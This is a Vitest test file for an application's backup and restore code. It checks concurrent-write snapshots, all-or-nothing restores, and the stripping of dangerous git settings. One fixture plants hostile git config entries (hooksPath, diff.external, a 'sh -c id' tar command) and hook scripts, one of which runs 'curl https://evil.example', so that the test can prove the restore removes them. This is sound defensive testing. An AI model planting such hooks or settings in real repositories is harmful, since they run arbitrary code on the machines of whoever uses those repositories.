import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import SqliteDatabase from 'better-sqlite3';
import * as tar from 'tar';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorld, startTestServer, type TestServer, type World } from '../../server/test/harness.ts';
import { step } from '../../server/test/process-flows.ts';
import { backup, restore } from '../src/backup.ts';

describe('backup and restore (sqlite)', () => {
  let server: TestServer;
  let world: World;
  let interviewId: string;
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'pairwise-backup-'));

  beforeAll(async () => {
    server = await startTestServer('sqlite');
    world = await createWorld(server);
    interviewId = await world.planInterview();
    for (const action of ['invite', 'start_setup', 'start_pairing']) {
      if (action === 'start_setup')
        await world.navigator.post(`/api/interviews/${interviewId}/wellness`, {
          well: true,
          startEarly: true,
        });
      await step(world.navigator, interviewId, action);
    }
  });
  afterAll(async () => {
    await server.close();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  it('snapshots while notes are written and restores every note acknowledged before it began', async () => {
    const acknowledgedBefore = new Set<string>();
    let backupStarted = false;
    let stop = false;
    let written = 0;
    // Resolves once `written` reaches a target: the writers themselves announce progress, so the
    // test waits for notes to be acknowledged rather than for a length of time.
    let waiter: { target: number; resolve: () => void } | null = null;
    const writtenAtLeast = (target: number) =>
      new Promise<void>((resolve) => {
        if (written >= target) resolve();
        else waiter = { target, resolve };
      });
    const writer = async () => {
      while (!stop) {
        const id = randomUUID();
        const { status } = await world.navigator.put(`/api/interviews/${interviewId}/notes/${id}`, {
          text: `note ${id}`,
          tags: [],
          offsetMs: written,
        });
        if (status !== 200) throw new Error(`note write answered ${status}`);
        written++;
        if (!backupStarted) acknowledgedBefore.add(id);
        if (waiter && written >= waiter.target) {
          waiter.resolve();
          waiter = null;
        }
      }
    };
    const writers = Array.from({ length: 3 }, writer);
    // Enough acknowledged notes to make the check below meaningful, however busy the machine is.
    await writtenAtLeast(11);
    // The flag flips before the copy starts: anything acknowledged by now must be in the backup.
    backupStarted = true;
    const file = path.join(scratch, 'pairwise.tar.gz');
    const taken = await backup(file, { dataDir: server.dataDir, databaseUrl: null });
    // Writes go on after the snapshot too, so the restore is checked against a moving database.
    await writtenAtLeast(written + 10);
    stop = true;
    await Promise.all(writers);

    const restoredDir = path.join(scratch, 'restored');
    await expect(restore(file, { dataDir: server.dataDir, databaseUrl: null })).rejects.toThrow(/not empty/);
    const restored = await restore(file, { dataDir: restoredDir, databaseUrl: null });
    expect(restored.integrity).toBe('ok');
    console.log(
      `backup: ${(taken.bytes / 1024).toFixed(0)} KiB in ${taken.totalMs.toFixed(0)} ms (snapshot ${taken.snapshotMs.toFixed(0)} ms) while ${written} notes were written; restore ${restored.totalMs.toFixed(0)} ms; ${acknowledgedBefore.size} notes acknowledged before the backup began`,
    );

    const db = new SqliteDatabase(path.join(restoredDir, 'pairwise.sqlite'), { readonly: true });
    const stored = new Set(
      (
        db.prepare('SELECT id FROM notes WHERE interview_id = ?').all(interviewId) as Array<{ id: string }>
      ).map((row) => row.id),
    );
    db.close();
    expect(acknowledgedBefore.size).toBeGreaterThan(10);
    expect([...acknowledgedBefore].filter((id) => !stored.has(id))).toEqual([]);
    // The files beside the database came along (the candidate repositories' credential key, for one).
    const original = fs.readdirSync(server.dataDir).filter((name) => !name.startsWith('pairwise.sqlite'));
    for (const name of original) expect(fs.existsSync(path.join(restoredDir, name)), name).toBe(true);
    expect(fs.existsSync(path.join(restoredDir, '.pairwise-backup'))).toBe(false);
    expect(fs.existsSync(path.join(server.dataDir, '.pairwise-backup'))).toBe(false);
  });
});

describe('backup and restore (postgres)', () => {
  it('archives the files only, and restores them without touching a database', async () => {
    const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'pairwise-backup-pg-'));
    const dataDir = path.join(scratch, 'data');
    fs.mkdirSync(path.join(dataDir, 'repositories', 'x.git'), { recursive: true });
    fs.writeFileSync(path.join(dataDir, 'repositories', 'x.git', 'HEAD'), 'ref: refs/heads/main\n');
    const databaseUrl = 'postgres://unused@127.0.0.1:1/pairwise';
    const file = path.join(scratch, 'files.tar.gz');
    await backup(file, { dataDir, databaseUrl });
    const restoredDir = path.join(scratch, 'restored');
    const restored = await restore(file, { dataDir: restoredDir, databaseUrl });
    expect(restored.database).toBe('postgres');
    expect(fs.readFileSync(path.join(restoredDir, 'repositories', 'x.git', 'HEAD'), 'utf8')).toContain(
      'main',
    );
    expect(fs.existsSync(path.join(restoredDir, 'pairwise.sqlite'))).toBe(false);
    fs.rmSync(scratch, { recursive: true, force: true });
  });
});

describe('restore is all or nothing', () => {
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'pairwise-restore-'));
  const databaseUrl = 'postgres://unused@127.0.0.1:1/pairwise';
  afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

  /** A data folder with a bare repository carrying a planted hook, backed up as files only. */
  const backupWithRepository = async (name: string) => {
    const dataDir = path.join(scratch, `${name}-data`);
    const gitDir = path.join(dataDir, 'repositories', 'bowling-kata.git');
    fs.mkdirSync(path.join(gitDir, 'objects'), { recursive: true });
    fs.mkdirSync(path.join(gitDir, 'hooks'));
    fs.writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(
      path.join(gitDir, 'config'),
      [
        '[core]',
        '\tbare = true',
        '\thooksPath = /tmp/planted-hooks',
        '[receive]',
        '\tdenyDeletes = true',
        '[diff]',
        '\texternal = /tmp/planted-diff',
        '[diff "evil"]',
        '\ttextconv = id',
        '[tar "tar.xz"]',
        '\tcommand = sh -c id',
        '[include]',
        '\tpath = /tmp/planted.config',
        '',
      ].join('\n'),
    );
    fs.writeFileSync(path.join(gitDir, 'hooks', 'post-receive'), '#!/bin/sh\ncurl https://evil.example\n', {
      mode: 0o755,
    });
    const taskGitDir = path.join(dataDir, 'tasks', 'task-1.git');
    fs.mkdirSync(path.join(taskGitDir, 'objects'), { recursive: true });
    fs.mkdirSync(path.join(taskGitDir, 'hooks'));
    fs.writeFileSync(path.join(taskGitDir, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(taskGitDir, 'hooks', 'pre-receive'), '#!/bin/sh\nid\n', { mode: 0o755 });
    const file = path.join(scratch, `${name}.tar.gz`);
    await backup(file, { dataDir, databaseUrl });
    return file;
  };

  /** Nothing of a failed restore may remain: neither the target nor a folder beside it. */
  const expectNothingLeft = (target: string) => {
    expect(fs.existsSync(target)).toBe(false);
    expect(fs.readdirSync(path.dirname(target)).filter((name) => name.includes('restoring'))).toEqual([]);
  };

  it('writes backups readable by their owner only', async () => {
    const previous = process.umask(0o022);
    try {
      const file = await backupWithRepository('mode');
      expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    } finally {
      process.umask(previous);
    }
  });

  it('refuses a truncated archive in plain words, leaves nothing behind, and a retry then succeeds', async () => {
    const good = await backupWithRepository('truncated');
    const truncated = path.join(scratch, 'truncated-half.tar.gz');
    const bytes = fs.readFileSync(good);
    fs.writeFileSync(truncated, bytes.subarray(0, Math.floor(bytes.length / 2)));
    const target = path.join(scratch, 'restore-target-1', 'data');
    await expect(restore(truncated, { dataDir: target, databaseUrl })).rejects.toThrow(
      /^Could not unpack .*damaged, incomplete, or not a backup made by "pairwise backup"\. Nothing was written to/,
    );
    expectNothingLeft(target);
    const restored = await restore(good, { dataDir: target, databaseUrl });
    expect(restored.database).toBe('postgres');
    expect(fs.existsSync(path.join(target, 'repositories', 'bowling-kata.git', 'HEAD'))).toBe(true);
  });

  it('refuses an archive that is no Pairwise backup, and a damaged database, leaving nothing behind', async () => {
    const foreign = path.join(scratch, 'foreign');
    fs.mkdirSync(foreign);
    fs.writeFileSync(path.join(foreign, 'notes.txt'), 'hello\n');
    const foreignFile = path.join(scratch, 'foreign.tar.gz');
    await tar.create({ gzip: true, file: foreignFile, cwd: foreign }, ['notes.txt']);
    const target = path.join(scratch, 'restore-target-2', 'data');
    await expect(restore(foreignFile, { dataDir: target, databaseUrl: null })).rejects.toThrow(
      /is not a Pairwise backup: it has no readable manifest\. Nothing was written/,
    );
    expectNothingLeft(target);

    const damaged = path.join(scratch, 'damaged');
    fs.mkdirSync(path.join(damaged, '.pairwise-backup'), { recursive: true });
    fs.writeFileSync(
      path.join(damaged, '.pairwise-backup', 'manifest.json'),
      JSON.stringify({ format: 1, createdAt: new Date().toISOString(), database: 'sqlite' }),
    );
    fs.writeFileSync(path.join(damaged, '.pairwise-backup', 'pairwise.sqlite'), Buffer.alloc(8192, 7));
    const damagedFile = path.join(scratch, 'damaged.tar.gz');
    await tar.create({ gzip: true, file: damagedFile, cwd: damaged }, ['.pairwise-backup']);
    await expect(restore(damagedFile, { dataDir: target, databaseUrl: null })).rejects.toThrow(
      /^The database in .* is damaged \(SQLite's integrity check says: .*\)\. Nothing was written/,
    );
    expectNothingLeft(target);
  });

  it("empties every restored repository's hooks and program settings, so a planted one never runs", async () => {
    const file = await backupWithRepository('hooks');
    const target = path.join(scratch, 'restore-target-3');
    fs.mkdirSync(target);
    await restore(file, { dataDir: target, databaseUrl });
    expect(fs.readdirSync(path.join(target, 'repositories', 'bowling-kata.git', 'hooks'))).toEqual([]);
    expect(fs.readdirSync(path.join(target, 'tasks', 'task-1.git', 'hooks'))).toEqual([]);
    const settings = execFileSync(
      'git',
      ['config', '--file', path.join(target, 'repositories', 'bowling-kata.git', 'config'), '--list'],
      { encoding: 'utf8' },
    );
    expect(settings.trim().split('\n')).toEqual(['core.bare=true', 'receive.denydeletes=true']);
    expect(fs.readFileSync(path.join(target, 'repositories', 'bowling-kata.git', 'HEAD'), 'utf8')).toContain(
      'main',
    );
  });
});
